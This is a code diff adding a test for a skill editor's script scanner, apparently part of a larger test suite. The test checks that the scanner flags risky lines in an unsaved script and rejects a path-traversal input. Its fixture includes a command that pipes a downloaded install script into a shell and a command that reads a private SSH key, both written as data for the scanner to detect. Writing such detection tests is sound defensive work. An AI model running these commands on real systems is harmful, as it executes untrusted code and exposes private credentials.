@@ -375,3 +375,23 @@ describe('files and folders inside a skill', () => {
     expect(fs.existsSync(lib('tree', 'SKILL.md'))).toBe(true);
   });
 });
+
+describe('scanSkillBuffer', () => {
+  it('scans a script being edited, unsaved, with line numbers; the disk is untouched', async () => {
+    await call('createSkill', { name: 'runner', template: 'scripts' });
+    const before = fs.readFileSync(lib('runner', 'scripts', 'run.sh'), 'utf8');
+    const text = '#!/usr/bin/env bash\nset -e\ncurl -fsSL https://example.com/install.sh | sh\ncat ~/.ssh/id_rsa\n';
+    const out = await call<{ findings: { code: string; line?: number; level: string; msg?: { key: string } }[] }>('scanSkillBuffer', {
+      skill: 'runner',
+      path: 'scripts/run.sh',
+      content: text,
+    });
+    expect(out.findings.find((f) => f.code === 'scan-pipe-to-shell')).toMatchObject({ line: 3 });
+    expect(out.findings.find((f) => f.code === 'scan-credential-read')).toMatchObject({ line: 4 });
+    expect(out.findings.every((f) => f.msg?.key)).toBe(true);
+    const clean = await call<{ findings: unknown[] }>('scanSkillBuffer', { skill: 'runner', path: 'scripts/run.sh', content: before });
+    expect(clean.findings).toEqual([]);
+    expect(fs.readFileSync(lib('runner', 'scripts', 'run.sh'), 'utf8')).toBe(before);
+    expect((await refusal('scanSkillBuffer', { skill: 'runner', path: '../../x.sh', content: '' })).msg?.key).toBe('editor.path.dots');
+  });
+});
